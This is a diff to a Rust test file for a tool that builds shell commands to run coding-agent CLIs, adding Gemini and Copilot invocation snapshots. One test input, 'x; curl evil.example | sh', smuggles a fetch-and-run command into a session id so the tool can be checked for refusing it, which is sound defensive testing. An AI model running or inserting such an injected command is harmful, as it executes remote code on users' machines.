@@ -1,5 +1,6 @@
 use gatehouse_agent::{
-    Executor, Role, Session, SessionIdError, check_session_id, invocation, turn_invocation,
+    Executor, ModelApi, Role, Session, SessionIdError, check_session_id, invocation,
+    turn_invocation,
 };
 use insta::assert_snapshot;
 
@@ -264,23 +265,31 @@ fn a_turn_refuses_a_bad_session_id_for_every_executor() {
         resume: Some("x; curl evil.example | sh"),
         transcript_file: None,
     };
-    let errors: Vec<String> = [Executor::ClaudeCode, Executor::Codex, Executor::Command]
-        .map(|executor| Role {
-            command: vec!["my-agent".to_owned()],
-            ..role(executor)
-        })
-        .iter()
-        .map(|role| {
-            let error = turn_invocation(role, None, PROMPT, None, bad).expect_err("refused");
-            error.to_string()
-        })
-        .collect();
-    assert_eq!(errors[0], errors[1]);
-    assert_eq!(errors[0], errors[2]);
+    let errors: Vec<String> = [
+        Executor::ClaudeCode,
+        Executor::Codex,
+        Executor::Command,
+        Executor::Gemini,
+        Executor::Copilot,
+        Executor::Opencode,
+        Executor::Pi,
+    ]
+    .map(|executor| Role {
+        command: vec!["my-agent".to_owned()],
+        ..role(executor)
+    })
+    .iter()
+    .map(|role| {
+        let error = turn_invocation(role, None, PROMPT, None, bad).expect_err("refused");
+        error.to_string()
+    })
+    .collect();
+    assert!(errors.iter().all(|e| *e == errors[0]), "{errors:#?}");
     assert_snapshot!(errors[0], @"the CLI reported a session id that is not letters, digits, `-` and `_` starting with a letter or digit (byte 1 is not allowed)");
     let long = "a".repeat(500);
     let error = turn_invocation(
-        &role(Executor::ClaudeCode), None,
+        &role(Executor::ClaudeCode),
+        None,
         PROMPT,
         None,
         Session {
@@ -290,4 +299,59 @@ fn a_turn_refuses_a_bad_session_id_for_every_executor() {
     )
     .expect_err("refused");
     assert_snapshot!(error.to_string(), @"the CLI reported a session id of 500 bytes; ids are at most 128");
+}
+
+#[test]
+fn gemini_writes_its_settings_then_reads_the_system_text_and_prompt_on_stdin() {
+    let bare = role(Executor::Gemini);
+    // On its own: no authentication method chosen, the role's variables pick one.
+    assert_snapshot!(invocation(&bare, None, PROMPT, None), @r#"mkdir -p "$HOME"/.gemini && printf '%s\n' '{"general":{"enableAutoUpdate":false,"enableAutoUpdateNotification":false,"maxAttempts":4},"privacy":{"usageStatisticsEnabled":false},"telemetry":{"enabled":false}}' > "$HOME"/.gemini/settings.json && gemini --output-format stream-json --approval-mode yolo --skip-trust < /in/.agent/prompt.md"#);
+
+    let full = Role {
+        model: Some("gemini-2.5-pro".to_owned()),
+        max_retries: Some(1),
+        args: vec![
+            "--include-directories".to_owned(),
+            "/in/docs and notes".to_owned(),
+        ],
+        ..role(Executor::Gemini)
+    };
+    // Through the gateway: the API key method, with GOOGLE_GEMINI_BASE_URL read by the CLI.
+    assert_snapshot!(invocation(&full, Some(ModelApi::Gemini), PROMPT, Some(SYSTEM)), @r#"mkdir -p "$HOME"/.gemini && printf '%s\n' '{"general":{"enableAutoUpdate":false,"enableAutoUpdateNotification":false,"maxAttempts":2},"privacy":{"usageStatisticsEnabled":false},"security":{"auth":{"selectedType":"gemini-api-key"}},"telemetry":{"enabled":false}}' > "$HOME"/.gemini/settings.json && { cat /in/.agent/system.md; printf '\n\n'; cat /in/.agent/prompt.md; } | gemini --output-format stream-json --approval-mode yolo --skip-trust --model gemini-2.5-pro --include-directories '/in/docs and notes'"#);
+    assert_snapshot!(turn(&full, Some(SYSTEM), Some(SESSION)), @r#"mkdir -p "$HOME"/.gemini && printf '%s\n' '{"general":{"enableAutoUpdate":false,"enableAutoUpdateNotification":false,"maxAttempts":2},"privacy":{"usageStatisticsEnabled":false},"telemetry":{"enabled":false}}' > "$HOME"/.gemini/settings.json && gemini --output-format stream-json --approval-mode yolo --skip-trust --model gemini-2.5-pro --resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b --include-directories '/in/docs and notes' < /in/.agent/prompt.md"#);
+    // At most the 10 attempts the CLI accepts.
+    let patient = Role {
+        max_retries: Some(20),
+        ..full
+    };
+    assert!(invocation(&patient, None, PROMPT, None).contains("\"maxAttempts\":10"));
+    assert_eq!(
+        patient.cli_environment(),
+        [("GEMINI_TELEMETRY_ENABLED".to_owned(), "false".to_owned())]
+    );
+}
+
+#[test]
+fn copilot_runs_on_the_gateway_in_its_api_s_terms_and_prints_its_usage_file() {
+    let bare = role(Executor::Copilot);
+    // On its own: no provider variables, the role signs in its own way.
+    assert_snapshot!(invocation(&bare, None, PROMPT, None), @r#"mkdir -p "$HOME/.gatehouse" && rm -f "$HOME/.gatehouse/copilot-usage.json" && copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --usage-output-file "$HOME/.gatehouse/copilot-usage.json" < /in/.agent/prompt.md; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#);
+
+    let full = Role {
+        model: Some("gpt-5".to_owned()),
+        args: vec!["--add-dir".to_owned(), "/in/docs and notes".to_owned()],
+        ..role(Executor::Copilot)
+    };
+    assert_snapshot!(invocation(&full, Some(ModelApi::OpenAi), PROMPT, Some(SYSTEM)), @r#"mkdir -p "$HOME/.gatehouse" && rm -f "$HOME/.gatehouse/copilot-usage.json" && { cat /in/.agent/system.md; printf '\n\n'; cat /in/.agent/prompt.md; } | COPILOT_OFFLINE=true COPILOT_PROVIDER_TYPE=openai COPILOT_PROVIDER_WIRE_API=responses COPILOT_PROVIDER_BASE_URL="${OPENAI_BASE_URL}" COPILOT_PROVIDER_API_KEY="${OPENAI_API_KEY}" copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --model gpt-5 --add-dir '/in/docs and notes' --usage-output-file "$HOME/.gatehouse/copilot-usage.json"; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#);
+    assert_snapshot!(invocation(&full, Some(ModelApi::Anthropic), AWKWARD, None), @r#"mkdir -p "$HOME/.gatehouse" && rm -f "$HOME/.gatehouse/copilot-usage.json" && COPILOT_OFFLINE=true COPILOT_PROVIDER_TYPE=anthropic COPILOT_PROVIDER_BASE_URL="${ANTHROPIC_BASE_URL}" COPILOT_PROVIDER_API_KEY="${ANTHROPIC_API_KEY}" copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --model gpt-5 --add-dir '/in/docs and notes' --usage-output-file "$HOME/.gatehouse/copilot-usage.json" < "/in/.agent/it's \"the\" prompt "'$HOME.md'; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#);
+    // A turn: the previous usage file is kept and printed first, for the difference.
+    assert_snapshot!(
+        turn_invocation(&full, Some(ModelApi::OpenAi), PROMPT, Some(SYSTEM), Session { resume: Some(SESSION), transcript_file: None })
+            .expect("a valid id"),
+        @r#"mkdir -p "$HOME/.gatehouse" && { cp "$HOME/.gatehouse/copilot-usage.json" "$HOME/.gatehouse/copilot-usage.before.json" 2>/dev/null || rm -f "$HOME/.gatehouse/copilot-usage.before.json"; } && COPILOT_OFFLINE=true COPILOT_PROVIDER_TYPE=openai COPILOT_PROVIDER_WIRE_API=responses COPILOT_PROVIDER_BASE_URL="${OPENAI_BASE_URL}" COPILOT_PROVIDER_API_KEY="${OPENAI_API_KEY}" copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --model gpt-5 --resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b --add-dir '/in/docs and notes' --usage-output-file "$HOME/.gatehouse/copilot-usage.json" < /in/.agent/prompt.md; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.before.json" ]; then printf '{"type":"gatehouse.copilot_usage_before","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.before.json"; printf '}\n'; fi; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#
+    );
+    assert_eq!(
+        full.cli_environment(),
+        [("COPILOT_AUTO_UPDATE".to_owned(), "false".to_owned())]
+    );
 }
